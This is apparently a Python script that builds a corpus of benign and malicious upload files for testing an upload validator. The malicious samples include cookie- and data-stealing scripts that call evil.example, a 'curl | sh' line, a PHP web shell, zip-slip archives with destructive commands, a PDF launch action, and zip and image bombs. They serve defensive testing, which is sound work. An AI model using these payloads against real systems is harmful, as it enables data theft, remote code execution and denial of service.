"""Regenerate the upload test corpus: `.venv/bin/python tests/data/make_corpus.py`.

Writes tests/data/good/ (valid samples, each accepted) and tests/data/malicious/ (one attack a file,
each refused) with a MANIFEST.json in each. Deterministic: fixed pixels, fixed zip timestamps, no
randomness, so running it again gives the same bytes (with the same Pillow version). Every file is
small; the bombs declare huge sizes but are tiny on disk.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Iterable
from pathlib import Path

from PIL import Image, PngImagePlugin

ROOT = Path(__file__).resolve().parent
GOOD = ROOT / "good"
MALICIOUS = ROOT / "malicious"
ZIP_TIME = (2024, 1, 1, 0, 0, 0)
MB = 1024 * 1024

# Built from two halves so that this script is not itself flagged by antivirus software.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# ------------------------------------------------------------------------------------------ helpers


def zip_info(name: str, compression: int = zipfile.ZIP_DEFLATED) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, date_time=ZIP_TIME)
    info.compress_type = compression
    info.external_attr = 0o644 << 16
    return info


def make_zip(members: Iterable[tuple[str, bytes]], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members:
            archive.writestr(
                zip_info(name, compression), content, compresslevel=9 if compression == 8 else None
            )
    return buffer.getvalue()


def picture(size: tuple[int, int], mode: str = "RGB") -> Image.Image:
    """A deterministic colour pattern (gradients and stripes, so encoders have real work)."""
    width, height = size
    pixels = bytearray()
    for y in range(height):
        for x in range(width):
            pixels += bytes(
                (
                    (x * 255) // max(1, width - 1),
                    (y * 255) // max(1, height - 1),
                    ((x // 4 + y // 4) % 2) * 200,
                )
            )
    image = Image.frombytes("RGB", size, bytes(pixels))
    return image.convert(mode) if mode != "RGB" else image


def encode(image: Image.Image, fmt: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **options)
    return buffer.getvalue()


def exif_bytes(orientation: int = 1) -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "LMS Camera"  # Make
    exif[0x0110] = "Model 1"  # Model
    exif[0x0112] = orientation
    exif[0x0131] = "make_corpus"  # Software
    exif.get_ifd(0x8769)[0x9003] = "2024:05:01 10:00:00"  # DateTimeOriginal
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (24.0, 42.0, 36.0)  # Riyadh
    gps[3], gps[4] = "E", (46.0, 40.0, 30.0)
    gps[5], gps[6] = b"\x00", 612.5
    return exif.tobytes()


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def png_declaring(width: int, height: int, rows: int) -> bytes:
    """A 1-bit greyscale PNG header declaring width x height, with `rows` rows of zeros compressed."""
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    row = b"\x00" * (1 + (width + 7) // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(rows)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")
    )


def pdf(catalog_extra: bytes = b"", objects: Iterable[bytes] = (), header_extra: bytes = b"") -> bytes:
    """A small one-page PDF with a correct xref table; extra objects are numbered from 6."""

    def stream(content: bytes, extra: bytes = b"") -> bytes:
        return b"<< /Length %d%s >>\nstream\n" % (len(content), extra) + content + b"\nendstream"

    body = [
        b"<< /Type /Catalog /Pages 2 0 R" + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        stream(b"BT /F1 18 Tf 30 100 Td (Lesson 1: Introduction) Tj ET"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *objects,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + header_extra)
    offsets = []
    for number, content in enumerate(body, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(body) + 1, xref)
    return bytes(out)


def pdf_stream(content: bytes, extra: bytes = b"", compress: bool = False) -> bytes:
    if compress:
        content, extra = zlib.compress(content, 9), extra + b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n" % (len(content), extra) + content + b"\nendstream"


def ooxml(kind: str) -> bytes:
    """A minimal Office Open XML package (docx, xlsx or pptx)."""
    ct = "application/vnd.openxmlformats-officedocument"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    parts = {
        "docx": {
            "word/document.xml": (
                f"{ct}.wordprocessingml.document.main+xml",
                '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                "<w:body><w:p><w:r><w:t>Lesson notes - ملاحظات الدرس</w:t></w:r></w:p></w:body></w:document>",
            ),
        },
        "xlsx": {
            "xl/workbook.xml": (
                f"{ct}.spreadsheetml.sheet.main+xml",
                '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                f'xmlns:r="{rel}"><sheets><sheet name="Grades" sheetId="1" r:id="rId1"/></sheets></workbook>',
            ),
            "xl/worksheets/sheet1.xml": (
                f"{ct}.spreadsheetml.worksheet+xml",
                '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                '<row r="1"><c r="A1" t="inlineStr"><is><t>Score</t></is></c><c r="B1"><v>95</v></c></row>'
                "</sheetData></worksheet>",
            ),
        },
        "pptx": {
            "ppt/presentation.xml": (
                f"{ct}.presentationml.presentation.main+xml",
                '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
                f'xmlns:r="{rel}"><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst>'
                '<p:sldSz cx="9144000" cy="6858000"/></p:presentation>',
            ),
            "ppt/slides/slide1.xml": (
                f"{ct}.presentationml.slide+xml",
                '<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"><p:cSld>'
                "<p:spTree/></p:cSld></p:sld>",
            ),
        },
    }[kind]
    main = next(iter(parts))
    overrides = "".join(
        f'<Override PartName="/{name}" ContentType="{ctype}"/>' for name, (ctype, _) in parts.items()
    )
    members = [
        (
            "[Content_Types].xml",
            head + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Default Extension="xml" ContentType="application/xml"/>{overrides}</Types>',
        ),
        (
            "_rels/.rels",
            head + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="{main}"/></Relationships>',
        ),
    ]
    if kind == "xlsx":
        members.append(
            (
                "xl/_rels/workbook.xml.rels",
                head + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
                "</Relationships>",
            )
        )
    if kind == "pptx":
        members.append(
            (
                "ppt/_rels/presentation.xml.rels",
                head + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="rId1" Type="{rel}/slide" Target="slides/slide1.xml"/></Relationships>',
            )
        )
    members += [(name, head + xml) for name, (_, xml) in parts.items()]
    return make_zip((name, text.encode("utf-8")) for name, text in members)


def ole2(stream_name: str) -> bytes:
    """A compound-file (OLE2) skeleton: the header and one directory sector naming `stream_name`."""
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)  # minor, major, byte order, sector shifts
    struct.pack_into("<IIII", header, 44, 1, 0, 0, 4096)  # FAT sectors, first directory sector, ..., cutoff
    struct.pack_into("<IIII", header, 60, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    header[76:80] = struct.pack("<I", 1)  # the FAT lives in sector 1
    header[80:512] = b"\xff" * 432

    def entry(name: str, kind: int) -> bytes:
        raw = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        raw[: len(encoded)] = encoded
        struct.pack_into("<HBB", raw, 64, len(encoded), kind, 1)
        struct.pack_into("<III", raw, 68, 0xFFFFFFFF, 0xFFFFFFFF, 1 if kind == 5 else 0xFFFFFFFF)
        return bytes(raw)

    directory = entry("Root Entry", 5) + entry(stream_name, 2) + b"\x00" * 256
    fat = struct.pack("<II", 0xFFFFFFFE, 0xFFFFFFFD) + b"\xff" * 504
    return bytes(header) + directory + fat


def mp3() -> bytes:
    title = b"\x03Lesson 1"  # UTF-8 text encoding
    frame = b"TIT2" + struct.pack(">I", len(title)) + b"\x00\x00" + title
    tag = b"ID3\x03\x00\x00" + bytes([0, 0, (len(frame) >> 7) & 0x7F, len(frame) & 0x7F]) + frame
    audio_frame = b"\xff\xfb\x90\x64" + b"\x00" * 413  # MPEG-1 layer III, 128 kb/s, 44.1 kHz
    return tag + audio_frame * 8


def box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def mp4(brand: bytes, compatible: bytes) -> bytes:
    mvhd = box(
        b"mvhd",
        b"\x00" * 4 + struct.pack(">IIII", 0, 0, 1000, 1000) + b"\x00\x01\x00\x00\x01\x00" + b"\x00" * 74,
    )
    return (
        box(b"ftyp", brand + b"\x00\x00\x02\x00" + compatible)
        + box(b"moov", mvhd)
        + box(b"mdat", b"\x00" * 64)
    )


def _ogg_crc(data: bytes) -> int:
    crc = 0
    for byte in data:
        crc ^= byte << 24
        for _ in range(8):
            crc = ((crc << 1) ^ 0x04C11DB7) & 0xFFFFFFFF if crc & 0x80000000 else (crc << 1) & 0xFFFFFFFF
    return crc


def ogg_page(packet: bytes, sequence: int, flags: int) -> bytes:
    header = b"OggS" + struct.pack("<BBqIII", 0, flags, 0, 0x4C4D53, sequence, 0) + bytes([1, len(packet)])
    page = header + packet
    return page[:22] + struct.pack("<I", _ogg_crc(page)) + page[26:]


def ogg() -> bytes:
    opus_head = b"OpusHead" + struct.pack("<BBHIhB", 1, 1, 312, 48000, 0, 0)
    opus_tags = b"OpusTags" + struct.pack("<I", 4) + b"test" + struct.pack("<I", 0)
    return ogg_page(opus_head, 0, 2) + ogg_page(opus_tags, 1, 0)


def overlapping_zip_bomb(entries: int = 25, size: int = 5 * MB) -> bytes:
    """One deflated run of zeros referenced by many central-directory entries (a non-recursive bomb)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"\x00" * MB
    crc, parts = 0, []
    for _ in range(size // MB):
        crc = zlib.crc32(chunk, crc)
        parts.append(compressor.compress(chunk))
    parts.append(compressor.flush())
    data = b"".join(parts)
    name = b"0000.bin"
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0x2821, crc, len(data), size, len(name), 0)
    body = local + name + data
    central = b""
    for index in range(entries):
        entry_name = b"%04d.bin" % index
        central += struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            0x2821,
            crc,
            len(data),
            size,
            len(entry_name),
            0,
            0,
            0,
            0,
            0,
            0,
        )
        central += entry_name
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, entries, entries, len(central), len(body), 0)
    return body + central + end


def zip_bomb(size: int = 101 * MB) -> bytes:
    """Zeros streamed into a bzip2 member (no 100 MB buffer): > 100 MB declared, a few KB on disk."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w") as archive,
        archive.open(zip_info("zeros.bin", zipfile.ZIP_BZIP2), "w") as member,
    ):
        chunk = b"\x00" * MB
        for _ in range(size // MB):
            member.write(chunk)
    return buffer.getvalue()


# -------------------------------------------------------------------------------------------- files

SVG_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(document.domain)">'
    b"<script>fetch('/api/v1/me').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script>"
    b"</svg>\n"
)
HTML_PAGE = (
    b"<!DOCTYPE html>\n<html><body>"
    b"<script>document.location='//evil.example/?c='+document.cookie</script></body></html>\n"
)


def good_files() -> dict[str, tuple[bytes, dict]]:
    archive = make_zip(
        [
            ("docs/readme.txt", "Course files - ملفات المقرر\n".encode()),
            ("docs/lesson.docx", ooxml("docx")),
            ("extra/inner.zip", make_zip([("notes.txt", b"one level of nesting is fine\n")])),
        ]
    )
    return {
        "photo_orientation6.jpg": (
            encode(picture((80, 40)), "JPEG", quality=90, exif=exif_bytes(6), comment=b"taken on a trip"),
            {"kind": "avatar", "mime": "image/jpeg", "width": 40, "height": 80},
        ),
        "image.png": (
            encode(
                picture((64, 48), "RGBA"), "PNG", exif=exif_bytes(), pnginfo=_png_text("Author", "Someone")
            ),
            {"kind": "event_banner", "mime": "image/png", "width": 64, "height": 48},
        ),
        "image.webp": (
            encode(picture((48, 32)), "WEBP", quality=80, exif=exif_bytes()),
            {"kind": "avatar", "mime": "image/webp", "width": 48, "height": 32},
        ),
        "animation.gif": (
            encode(
                picture((32, 32), "P"),
                "GIF",
                save_all=True,
                append_images=[
                    picture((32, 32)).rotate(90).convert("P"),
                    picture((32, 32)).rotate(180).convert("P"),
                ],
                duration=[100, 150, 200],
                loop=0,
            ),
            {"kind": "post_media", "mime": "image/gif", "width": 32, "height": 32},
        ),
        "document.pdf": (pdf(), {"kind": "job_attachment", "mime": "application/pdf"}),
        "document.docx": (ooxml("docx"), {"kind": "assignment_submission", "mime": _ooxml_mime("docx")}),
        "spreadsheet.xlsx": (ooxml("xlsx"), {"kind": "course_material", "mime": _ooxml_mime("xlsx")}),
        "slides.pptx": (ooxml("pptx"), {"kind": "course_material", "mime": _ooxml_mime("pptx")}),
        "legacy.doc": (ole2("WordDocument"), {"kind": "job_attachment", "mime": "application/msword"}),
        "archive.zip": (archive, {"kind": "assignment_submission", "mime": "application/zip"}),
        "audio.mp3": (mp3(), {"kind": "chat_attachment", "mime": "audio/mpeg"}),
        "video.mp4": (mp4(b"isom", b"isomiso2avc1mp41"), {"kind": "post_media", "mime": "video/mp4"}),
        "voice.m4a": (mp4(b"M4A ", b"M4A mp42isom"), {"kind": "chat_attachment", "mime": "audio/mp4"}),
        "voice.ogg": (ogg(), {"kind": "chat_attachment", "mime": "audio/ogg"}),
        "notes_ar.txt": (
            "\ufeffملاحظات المحاضرة الأولى\nمقدمة في البرمجة — Introduction to programming\n".encode(),  # noqa: RUF001
            {"kind": "course_material", "mime": "text/plain"},
        ),
    }


def _png_text(key: str, value: str) -> PngImagePlugin.PngInfo:
    info = PngImagePlugin.PngInfo()
    info.add_text(key, value)
    return info


def _ooxml_mime(kind: str) -> str:
    return {
        "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    }[kind]


def malicious_files() -> dict[str, tuple[bytes, dict]]:
    """file name -> (bytes, manifest entry: kind, reason, attack, optional upload name)."""
    jpeg = encode(picture((64, 64)), "JPEG", quality=90)
    png = encode(picture((32, 32)), "PNG")
    gif = encode(picture((32, 32), "P"), "GIF")
    jar = make_zip(
        [
            ("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\nMain-Class: Evil\n"),
            ("Evil.class", b"\xca\xfe\xba\xbe" + b"\x00" * 32),
        ]
    )
    broken_png = bytearray(png)
    idat = broken_png.find(b"IDAT")
    broken_png[idat + 4] ^= 0xFF  # first IDAT byte changed, CRC left as it was
    php = b"<?php system($_GET['cmd']); ?>"
    level3 = make_zip([("payload.txt", b"A" * 1000)])
    level2 = make_zip([("level3.zip", level3)])
    eicar_inner = make_zip([("eicar.com", EICAR)])

    def entry(kind: str, reason: str, attack: str, name: str | None = None) -> dict:
        return {"kind": kind, "reason": reason, "attack": attack, **({"name": name} if name else {})}

    return {
        # SVG and HTML
        "script_svg.svg": (SVG_SCRIPT, entry("avatar", "type_not_allowed", "SVG with onload and <script>")),
        "svg_renamed.png": (SVG_SCRIPT, entry("avatar", "script_in_svg", "script SVG named .png")),
        "xml_svg_renamed.gif": (
            b'<?xml version="1.0" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
            b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n' + SVG_SCRIPT,
            entry("post_media", "script_in_svg", "XML-declared SVG named .gif"),
        ),
        "svg_as_text.txt": (SVG_SCRIPT, entry("course_material", "script_in_svg", "script SVG named .txt")),
        "html_renamed.pdf": (HTML_PAGE, entry("job_attachment", "html_content", "HTML page named .pdf")),
        "html_renamed.jpg": (HTML_PAGE, entry("avatar", "html_content", "HTML page named .jpg")),
        "html_with_bom.txt": (
            b"\xef\xbb\xbf \n\t" + HTML_PAGE,
            entry("course_material", "html_content", "HTML behind a UTF-8 BOM and whitespace, named .txt"),
        ),
        "html_utf16.txt": (
            b"\xff\xfe" + HTML_PAGE.decode().encode("utf-16-le"),
            entry("course_material", "html_content", "UTF-16 HTML named .txt"),
        ),
        "xhtml_renamed.docx": (
            b'<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
            entry("job_attachment", "html_content", "XHTML named .docx"),
        ),
        # names and extensions
        "php_double_ext.php.jpg": (
            jpeg,
            entry("avatar", "double_extension", "PHP inner extension (Apache handler)"),
        ),
        "php5_mixed_case.PhP5.png": (
            png,
            entry("avatar", "double_extension", "mixed-case php5 inner extension"),
        ),
        "exe_double_ext.jpg.exe": (
            b"MZ\x90\x00" + b"\x00" * 60,
            entry("chat_attachment", "double_extension", "executable behind an image extension"),
        ),
        "html_double_ext.html.png": (png, entry("event_banner", "double_extension", "HTML inner extension")),
        "dotfile_htaccess.txt": (
            b"AddType application/x-httpd-php .jpg\n",
            entry("course_material", "bad_name", "dot file (.htaccess) upload", ".htaccess"),
        ),
        "nul_in_name.txt": (
            b"hello\n",
            entry("course_material", "bad_name", "NUL byte truncating the name", "notes.txt\x00.php"),
        ),
        "path_traversal_name.txt": (
            b"root:x:0:0\n",
            entry("course_material", "bad_name", "../ path traversal", "../../etc/passwd.txt"),
        ),
        "backslash_traversal_name.txt": (
            b"[fonts]\n",
            entry(
                "course_material", "bad_name", "Windows ..\\ path traversal", "..\\..\\windows\\win.ini.txt"
            ),
        ),
        "rtl_override_name.txt": (
            b"MZ",
            entry(
                "chat_attachment", "bad_name", "right-to-left override hiding .exe", "invoice\u202egpj.exe"
            ),
        ),
        # content that does not match the extension
        "exe_renamed.pdf": (
            b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 54 + b"PE\x00\x00",
            entry("job_attachment", "content_mismatch", "Windows executable named .pdf"),
        ),
        "elf_renamed.docx": (
            b"\x7fELF\x02\x01\x01" + b"\x00" * 57,
            entry("assignment_submission", "content_mismatch", "Linux executable named .docx"),
        ),
        "text_with_nul.txt": (
            b"looks like text\x00\x01\x02 but is binary\n",
            entry("course_material", "content_mismatch", "binary with NUL named .txt"),
        ),
        "fake_docx.docx": (
            make_zip([("readme.txt", b"not a Word document")]),
            entry("job_attachment", "content_mismatch", "plain zip named .docx"),
        ),
        "docx_renamed.xlsx": (
            ooxml("docx"),
            entry("course_material", "content_mismatch", "Word package named .xlsx"),
        ),
        "png_renamed.jpg": (png, entry("avatar", "content_mismatch", "PNG named .jpg")),
        "msi_renamed.doc": (
            ole2("\u0005SummaryInformation"),
            entry("job_attachment", "content_mismatch", "OLE2 file without a Word stream named .doc"),
        ),
        "shell_script_renamed.mp3": (
            b"#!/bin/sh\ncurl evil.example | sh\n",
            entry("chat_attachment", "content_mismatch", "shell script named .mp3"),
        ),
        "corrupt.zip": (
            b"PK\x03\x04" + bytes(range(256)) * 4,
            entry("assignment_submission", "content_mismatch", "zip header with garbage"),
        ),
        "empty.pdf": (b"", entry("job_attachment", "empty", "zero-byte file")),
        # polyglots
        "jpeg_with_html_after_eoi.jpg": (
            jpeg + HTML_PAGE,
            entry("avatar", "polyglot", "HTML appended after the JPEG EOI"),
        ),
        "jpeg_php_in_comment.jpg": (
            encode(picture((64, 64)), "JPEG", quality=90, comment=php),
            entry("post_media", "polyglot", "PHP web shell in the JPEG comment segment"),
        ),
        "png_with_script_after_iend.png": (
            png + b"<script>alert(document.cookie)</script>",
            entry("avatar", "polyglot", "script after the PNG IEND chunk"),
        ),
        "png_php_in_text_chunk.png": (
            encode(picture((32, 32)), "PNG", pnginfo=_png_text("Comment", php.decode())),
            entry("event_banner", "polyglot", "PHP web shell in a PNG tEXt chunk"),
        ),
        "gifar.gif": (gif + jar, entry("post_media", "polyglot", "GIF with a Java archive appended (GIFAR)")),
        "pdf_with_html.pdf": (
            pdf(header_extra=b"%<html><body><script>alert(document.domain)</script></body></html>\n"),
            entry("job_attachment", "polyglot", "PDF + HTML polyglot"),
        ),
        # active PDF content
        "pdf_with_javascript.pdf": (
            pdf(b" /OpenAction 6 0 R", [b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\)) >>"]),
            entry("job_attachment", "pdf_active_content", "OpenAction JavaScript"),
        ),
        "pdf_obfuscated_javascript.pdf": (
            pdf(b" /OpenAction 6 0 R", [b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"]),
            entry("job_attachment", "pdf_active_content", "JavaScript action with #-escaped names"),
        ),
        "pdf_javascript_in_object_stream.pdf": (
            pdf(
                b" /OpenAction 7 0 R",
                [
                    pdf_stream(
                        b"7 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>",
                        b" /Type /ObjStm /N 1 /First 4",
                        compress=True,
                    )
                ],
            ),
            entry(
                "job_attachment",
                "pdf_active_content",
                "JavaScript action hidden in a compressed object stream",
            ),
        ),
        "pdf_launch_action.pdf": (
            pdf(b" /OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
            entry("assignment_submission", "pdf_active_content", "Launch action running a program"),
        ),
        "pdf_embedded_file.pdf": (
            pdf(
                b" /Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >>",
                [
                    b"<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>",
                    pdf_stream(b"MZ\x90\x00", b" /Type /EmbeddedFile"),
                ],
            ),
            entry("job_attachment", "pdf_active_content", "embedded executable"),
        ),
        "pdf_uri_javascript.pdf": (
            pdf(b" /OpenAction << /S /URI /URI (javascript:alert\\(document.cookie\\)) >>"),
            entry("job_attachment", "pdf_active_content", "javascript: URI action"),
        ),
        # malware
        "eicar.txt": (EICAR, entry("course_material", "malware", "EICAR test file")),
        "eicar_in.zip": (
            make_zip([("eicar.com", EICAR)], zipfile.ZIP_STORED),
            entry("chat_attachment", "malware", "EICAR stored in a zip"),
        ),
        "eicar_deflated_in.zip": (
            make_zip([("readme.txt", b"hi\n"), ("eicar.com", EICAR)]),
            entry("chat_attachment", "malware", "EICAR deflated inside a zip"),
        ),
        "eicar_in_nested.zip": (
            make_zip([("inner.zip", eicar_inner)]),
            entry("assignment_submission", "malware", "EICAR in a zip inside a zip"),
        ),
        # archives
        "zip_bomb.zip": (
            zip_bomb(),
            entry("assignment_submission", "zip_bomb", "101 MB of zeros in a few KB (bzip2)"),
        ),
        "zip_bomb_overlapping.zip": (
            overlapping_zip_bomb(),
            entry(
                "assignment_submission",
                "zip_bomb",
                "25 entries sharing one deflated 5 MB run (non-recursive bomb)",
            ),
        ),
        "zip_slip.zip": (
            make_zip([("../../evil.sh", b"#!/bin/sh\nrm -rf ~\n")]),
            entry("course_material", "zip_bomb", "zip slip: ../../evil.sh"),
        ),
        "zip_slip_backslash.zip": (
            make_zip([("..\\..\\Windows\\evil.bat", b"del /q *\r\n")]),
            entry("course_material", "zip_bomb", "zip slip with Windows separators"),
        ),
        "zip_absolute_path.zip": (
            make_zip([("/etc/cron.d/evil", b"* * * * * root sh\n")]),
            entry("course_material", "zip_bomb", "absolute path member"),
        ),
        "many_entries.zip": (
            make_zip(((f"{index:04x}", b"") for index in range(10_001)), zipfile.ZIP_STORED),
            entry("assignment_submission", "zip_bomb", "10,001 entries"),
        ),
        "nested_zip_bomb.zip": (
            make_zip([("level2.zip", level2)]),
            entry("assignment_submission", "zip_bomb", "zip in zip in zip"),
        ),
        # images
        "decompression_bomb.png": (
            png_declaring(30_000, 30_000, 64),
            entry("avatar", "decompression_bomb", "PNG declaring 30000x30000 (900 Mpx)"),
        ),
        "decompression_bomb_64mp.png": (
            png_declaring(8_000, 8_000, 8_000),
            entry(
                "event_banner", "decompression_bomb", "valid 8000x8000 PNG (64 Mpx, under Pillow's own limit)"
            ),
        ),
        "wide_strip_bomb.gif": (
            encode(Image.new("P", (25_000, 1)), "GIF"),
            entry("post_media", "decompression_bomb", "25000 px wide GIF"),
        ),
        "truncated.jpg": (jpeg[: len(jpeg) * 3 // 5], entry("avatar", "corrupt_image", "JPEG cut short")),
        "broken_png_crc.png": (
            bytes(broken_png),
            entry("avatar", "corrupt_image", "PNG with a bad IDAT checksum"),
        ),
    }


def write(directory: Path, files: dict[str, tuple[bytes, dict]]) -> None:
    directory.mkdir(parents=True, exist_ok=True)
    for old in directory.iterdir():
        old.unlink()
    for name, (content, _) in files.items():
        (directory / name).write_bytes(content)
    manifest = {name: meta for name, (_, meta) in sorted(files.items())}
    (directory / "MANIFEST.json").write_text(
        json.dumps(manifest, indent=2, ensure_ascii=False) + "\n", encoding="utf-8"
    )


def main() -> None:
    write(GOOD, good_files())
    write(MALICIOUS, malicious_files())
    for directory in (GOOD, MALICIOUS):
        files = sorted(p for p in directory.iterdir() if p.name != "MANIFEST.json")
        size = sum(path.stat().st_size for path in files)
        print(f"{directory.relative_to(ROOT.parent.parent)}: {len(files)} files, {size} bytes")


if __name__ == "__main__":
    main()
